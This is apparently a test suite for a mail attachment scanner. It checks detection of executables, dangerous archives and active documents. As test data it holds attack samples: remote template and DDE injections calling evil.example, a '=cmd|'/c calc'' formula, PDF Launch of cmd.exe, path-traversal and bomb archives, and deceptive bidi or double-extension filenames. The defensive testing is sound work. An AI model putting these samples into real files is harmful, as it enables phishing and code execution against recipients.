"""Files: typed by content, opened, and judged."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import quopri
import zipfile

import pytest
from tests.mail_of import HEAD, PROGRAM, attached, found_in, iso, names_in, pdf, tar_header, zipped

from wardmail.content.inspection import inspect
from wardmail.content.inspection.magic import detect

RELATIONS = b'<Relationships><Relationship Id="r1" Type="http://schemas/x/%b" Target="%b" TargetMode="External"/></Relationships>'


RELS = "word/_rels/settings.xml.rels"
NOTEBOOK = (
    bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    + b"\0" * 50
    + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    + len(PROGRAM).to_bytes(8, "little")
    + b"\0" * 12
    + PROGRAM
)


def docx(**files: bytes) -> bytes:
    given = {name.replace("__", "/").replace("_xml", ".xml"): content for name, content in files.items()}
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>", **given})


def old_tar(name: bytes, content: bytes) -> bytes:
    """Without the sign of the later ones (V7): its checksum alone tells."""
    block = bytearray(tar_header(name, len(content)))
    block[257:263] = b"\0" * 6
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + content.ljust(512, b"\0") + b"\0" * 1024


@pytest.mark.parametrize(
    ("octets", "kind"),
    [
        (PROGRAM, "application/x-dosexec"),
        (b"\x7fELF\2\1\1", "application/x-elf"),
        (b"%PDF-1.4", "application/pdf"),
        (b"#!/bin/sh\nls", "text/x-shellscript"),
        (b"L\0\0\0\x01\x14\x02\0rest", "application/x-ms-shortcut"),
        (b"[InternetShortcut]\r\nURL=http://x", "application/x-url-shortcut"),
        (b"<html><body>x", "text/html"),
        (b'<?xml version="1.0"?><svg xmlns="x"/>', "image/svg+xml"),
        (b"From: a@b\r\nSubject: x\r\n\r\nhello", "message/rfc822"),
        (b"BEGIN:VCALENDAR\r\n", "text/calendar"),
        (b"just words", "text/plain"),
        (b"", "application/x-empty"),
        (b"\0\1\2\3", "application/octet-stream"),
        (zipped({"a": b"x"}), "application/zip"),
        (zipped({"letter.docx": docx()}, zipfile.ZIP_STORED), "application/zip"),
        (
            zipped({"WORD/Document.xml": b"x"}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (old_tar(b"a", b"x"), "application/x-tar"),
        (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"{\\rtf1 x}", "text/rtf"),
        (b'Set o = CreateObject("x")', "text/vbscript"),
        (b"@echo off\r\ndel", "text/x-msdos-batch"),
    ],
)
def test_types_by_content(octets: bytes, kind: str) -> None:
    assert detect(octets) == kind


ARCHIVES = {
    "a.zip": zipped({"evil.exe": PROGRAM}),
    "b.zip": zipped({"evil.exe": PROGRAM}, zipfile.ZIP_BZIP2),
    "c.zip": zipped({"evil.exe": PROGRAM}, zipfile.ZIP_LZMA),
    "nested.zip": zipped({"inner.zip": zipped({"evil.exe": PROGRAM})}),
    "a.tar": tar_header(b"evil.exe", len(PROGRAM)) + PROGRAM.ljust(512, b"\0") + b"\0" * 1024,
    "v7.tar": old_tar(b"evil.exe", PROGRAM),
    "evil.exe.gz": gzip.compress(PROGRAM, mtime=0),
    "evil.exe.bz2": bz2.compress(PROGRAM),
    "evil.exe.xz": lzma.compress(PROGRAM),
    "a.iso": iso(b"EVIL.EXE;1", PROGRAM),
    "a.eml": attached(PROGRAM, "evil.exe"),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_a_program_is_found_in(name: str) -> None:
    inspection = inspect(attached(ARCHIVES[name], name))
    assert "evil.exe" in {each.lower() for each in names_in(inspection)}
    assert any(part.detected_type == "application/x-dosexec" for part in inspection.parts)
    # The name alone is not what it goes by.
    assert any(
        part.detected_type == "application/x-dosexec" for part in inspect(attached(ARCHIVES[name], "x.txt")).parts
    )


def patched(old: bytes, new: bytes, content: bytes) -> bytes:
    assert old in content
    return content.replace(old, new)


@pytest.mark.parametrize(
    ("content", "finding"),
    [
        (patched(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01", zipped({"a.txt": b"x"})), "archive-damaged"),
        (zipped({"a.txt": b"x"}).replace(b"a.txt", b"b.exe", 1), "archive-damaged"),
        (zipped({"a.txt": b"x"})[:-22], "archive-damaged"),
        (zipped({"evil.exe": PROGRAM})[:-60] + zipped({"a.txt": b"x"}), "archive-damaged"),
        (zipped({"../../a.txt": b"x"}), "archive-path"),
        (zipped({"../../a.txt": b"x", "word/document.xml": b"<x/>"}), "archive-path"),
        (zipped({"a.txt": b"x", "A.TXT": b"y"}), "archive-duplicate"),
        (zipped({"zeros": b"\0" * 30_000_000}), "archive-bomb"),
        (gzip.compress(b"\0" * 100_000_000, mtime=0), "archive-bomb"),
        (gzip.compress(b"x" * 1000, mtime=0)[:-20], "archive-damaged"),
        (tar_header(b"a", 0, b"2", b"/etc/passwd") + b"\0" * 1024, "archive-path"),
        (b"Rar!\x1a\x07\x00" + b"\0" * 40, "archive-damaged"),
        (b"7z\xbc\xaf\x27\x1c" + b"\0" * 10, "archive-damaged"),
        (b"MSCF" + b"\xff" * 50, "archive-damaged"),
        (b"\x60\xea" + b"\0" * 50, "archive-unsupported"),
        (b"\x28\xb5\x2f\xfd" + b"\0" * 50, "archive-unsupported"),
    ],
)
def test_archives_that_cannot_be_trusted(content: bytes, finding: str) -> None:
    assert finding in found_in(attached(content, "a.zip"))


def test_an_encrypted_zip_is_kept_back_and_its_names_are_read() -> None:
    content = zipped({"evil.exe": PROGRAM})
    flags = bytearray(content)
    flags[6] |= 1
    flags[content.find(b"PK\x01\x02") + 8] |= 1
    inspection = inspect(attached(bytes(flags), "a.zip"))
    assert {"archive-encrypted", "type-executable"} <= {finding.id for finding in inspection.all_findings}


def test_archives_in_archives_without_end_are_told() -> None:
    content = PROGRAM
    for number in range(12):
        content = zipped({f"{number}.zip": content})
    assert "archive-deep" in found_in(attached(content, "a.zip"))


@pytest.mark.parametrize(
    ("content", "finding"),
    [
        (docx(**{RELS: RELATIONS % (b"attachedTemplate", b"http://evil.example/t.dotm")}), "office-external"),
        (docx(**{RELS: RELATIONS % (b"oleObject", b"mhtml:http://evil.example/x!x-usc:http://e")}), "office-external"),
        (docx(word__fields_xml=b"<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"), "office-dde"),
        (docx(word__activeX__activeX1_xml=b"<x/>"), "office-activex"),
        (docx(**{"word/embeddings/a.bin": PROGRAM}), "type-executable"),
        (zipped({"[Content_Types].xml": b"", "xl/workbook.xml": b"", "xl/macrosheets/sheet1.xml": b""}), "office-macro-xlm"),
        (zipped({"xl/workbook.xml": b"", "xl/externalLinks/l.xml": b"<ddeLink ddeService='cmd'/>"}), "office-dde"),
        (zipped({"xl/workbook.bin": b"", "xl/externalLinks/1.bin": b"\xe8\x02\x26\1\0\3\0\0\0c\0m\0d\0"}), "office-dde"),
        (b"{\\rtf1{\\*\\template http://evil.example/a}}", "rtf-template"),
        (b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}", "rtf-object-update"),
        (b"{\\rt{\\object{\\*\\objdata " + b"{\\x}".join(b"%02x" % octet for octet in b"Equation.3") + b"}}}", "office-equation"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600, "office-damaged"),
        (NOTEBOOK, "type-executable"),
        (pdf(b"<</OpenAction 2 0 R>>", b"<</S/JavaScript/JS(app.alert)>>"), "pdf-action"),
        (pdf(b"<</S/Launch/F(cmd.exe)>>"), "pdf-launch"),
        (pdf(b"<</S/J#61vaScript/JS(x)>>"), "pdf-obfuscated"),
        (pdf(b"<</Type/Catalog>>", packed=b"1 0 <</S/Launch>>"), "pdf-launch"),
        (pdf(b"<</Encrypt 5 0 R>>"), "pdf-encrypted"),
        (pdf(b"<</Type/EmbeddedFile/Length 9>>\nstream\n" + PROGRAM + b"\nendstream"), "type-executable"),
        (pdf(b"<<>>") + zipped({"a.exe": PROGRAM}), "type-polyglot"),
        (b"GIF89a" + b"\0" * 20 + b"<script>alert(1)</script>", "type-polyglot"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "svg-script"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>', "svg-script"),
        (b"=cmd|'/c calc'!A1\n", "office-dde"),
        (docx(**{RELS: RELATIONS % (b"aFChunk", b"http://evil.example/a.rtf")}), "office-external"),
        (docx(**{RELS: RELATIONS % (b"image", b"file:///\\\\10.0.0.5\\s\\a.png")}), "office-external"),
        (docx(word__a_xml=b"<w:instrText>INCLUDEPICTURE \\d \"\\\\\\\\evil.example\\\\a.png\"</w:instrText>"), "office-external"),
        (docx(word__a_xml=b"<w:instrText>INCLUDETEXT \"http://evil.example/a.docx\"</w:instrText>"), "office-external"),
        (zipped({"xl/workbook.xml": b"", "xl/connections.xml": b'<connection refreshOnLoad="1"/>'}), "office-external"),
        (zipped({"xl/workbook.xml": b"", "xl/worksheets/s.xml": b'<f>_xlfn.WEBSERVICE("http://e")</f>'}), "office-external"),
        (zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
                 "content.xml": b'<draw:image xlink:href="file://evil.example/a.png"/>'}, zipfile.ZIP_STORED), "office-external"),
        (pdf(b"<</OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a)/D[0]>>>>"), "pdf-remote"),
        (pdf(b"<</AA<</O<</S/GoToE/F<5C5C6576696C5C61>>>>>>>>"), "pdf-remote"),
        (b"full address:s:evil.example\r\nprompt:i:0\r\n", "type-shortcut"),
        (b"screen mode id:i:2\r\nfull address:s:evil.example\r\nprompt:i:0\r\n", "type-shortcut"),
        (b"[Theme]\r\nDisplayName=x\r\n", "type-settings"),
        (b"MSWIM\0\0\0" + b"\0" * 99, "type-disk-image"),
        (b"\xeb\x3c\x90MSDOS5.0" + b"\0" * 600, "type-disk-image"),
        (b"\0" * 600 + b"koly" + b"\0" * 508, "type-disk-image"),
    ],
)  # fmt: skip
def test_documents_that_act(content: bytes, finding: str) -> None:
    assert finding in found_in(attached(content, "a.csv"))


@pytest.mark.parametrize(
    "content",
    [
        docx(),
        docx(**{"word/printerSettings/printerSettings1.bin": b"\0\1\2\3" * 99}),
        pdf(b"<</Type/Catalog>>"),
        zipped({"a.txt": b"x"}),
        zipped({"a.pdf": pdf(b"<</Type/Catalog>>")}, zipfile.ZIP_STORED),
        b"a,b\n1,-2\n",
        b"\x89PNG\r\n\x1a\n" + b"\0" * 99,
        b"MZ is what stands on the cars of the country, and nothing more than that, as you see here.",
    ],
)
def test_harmless_files_stay_without_findings(content: bytes) -> None:
    assert found_in(attached(content, "letter")) == set()


@pytest.mark.parametrize(
    ("name", "finding"),
    [
        ("invoice.pdf.exe", "name-double-extension"),
        ("invoice.pdf          .exe", "name-double-extension"),
        ("a\u202efdp.exe", "name-bidi"),
        ("a.{00000000-0000-0000-0000-000000000000}", "name-class-id"),
        ("evil.exe.", "name-trailing"),
        ("evil.exe::$DATA", "name-trailing"),
        ("../../evil.txt", "name-path"),
        ("a.\u0435xe", "name-homoglyph"),
        ("report" + " " * 30 + ".js", "name-blanks"),
        ("run.ps1", "type-script"),
        ("x.library-ms", "type-settings"),
        ("x.xll", "type-add-in"),
        ("x.iqy", "type-query"),
        ("x.lnk", "type-shortcut"),
        ("disk.img", "type-disk-image"),
        ("x.py", "type-script"),
        ("x.scpt", "type-script"),
        ("x.odc", "type-query"),
        ("x.mobileconfig", "type-settings"),
        ("x.appinstaller", "type-executable"),
        ("x.printerexport", "type-executable"),
    ],
)
def test_names_that_deceive_or_run(name: str, finding: str) -> None:
    encoded = "".join(f"=?utf-8?Q?{''.join(f'={octet:02X}' for octet in name.encode())}?=")
    assert finding in found_in(attached(b"\1\2\3", encoded))


@pytest.mark.parametrize(
    "name", ["letter.v2.final.pdf", "Dr. Smith's notes.docx", "результаты.pdf", "a.b.c.txt", "2026.11.24 scan.jpg"]
)
def test_ordinary_names_are_ordinary(name: str) -> None:
    encoded = f"=?utf-8?Q?{''.join(f'={octet:02X}' for octet in name.encode())}?="
    assert not {each for each in found_in(attached(b"\1\2\3", encoded)) if each.startswith("name-")}


def test_a_program_by_another_name_is_told() -> None:
    assert {"type-executable", "type-mismatch"} <= found_in(attached(PROGRAM, "a.pdf", "application/pdf"))


def test_an_archive_behind_something_else_is_opened_as_programs_open_it() -> None:
    for before in (b"just words ", b"\0\1\2\3" * 100):
        inspection = inspect(attached(before + zipped({"evil.exe": PROGRAM}), "a.zip"))
        assert "evil.exe" in names_in(inspection)


def test_a_page_is_a_page_however_late_it_begins() -> None:
    late = b" " * 10_000 + b"<form><input type=password></form>"
    assert "html-credential-page" in found_in(attached(late, "login.html"))
    assert "svg-script" in found_in(attached(b" " * 10_000 + b"<svg onload=x()>", "a.svg"))


@pytest.mark.parametrize("encoding", ["base64", "quoted-printable"])
@pytest.mark.parametrize("kind", [b"Content-Type: text/plain\r\n", b""])
def test_a_program_as_the_text_of_a_message_is_a_program(kind: bytes, encoding: str) -> None:
    encode = base64.encodebytes if encoding == "base64" else quopri.encodestring
    body = encode(PROGRAM).replace(b"\n", b"\r\n")
    field = f"Content-Transfer-Encoding: {encoding}\r\n\r\n".encode()
    assert "type-executable" in found_in(HEAD + kind + field + body)


def test_the_name_of_a_file_in_a_pdf_is_read() -> None:
    named = pdf(
        b"<</Type/Filespec/UF(\\376\\377\\000b\\000.\\000e\\000x\\000e)>>",
        b"<</Type/EmbeddedFile>>\nstream\nwords\nendstream",
    )
    inspection = inspect(attached(named, "a.pdf"))
    assert "b.exe" in names_in(inspection)
    assert {each.id for each in inspection.all_findings} == {"pdf-embedded", "type-executable"}


def test_a_document_of_several_files_is_no_attack() -> None:
    book = pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/GoToR/F(chapter 2.pdf)>>")
    assert found_in(attached(book, "a.pdf")) == {"pdf-action"}


def test_a_text_about_scripts_is_a_text() -> None:
    for words in (b"@echo off\r\ndel x", b"[Desktop Entry]\r\nExec=x", b"WEB\r\n1\r\nhttp://x", b"REGEDIT4"):
        assert "type-script" not in found_in(HEAD + b"Content-Type: text/plain\r\n\r\n" + words)
        assert not {each for each in found_in(HEAD + b"\r\n" + words) if each.startswith("type-")}
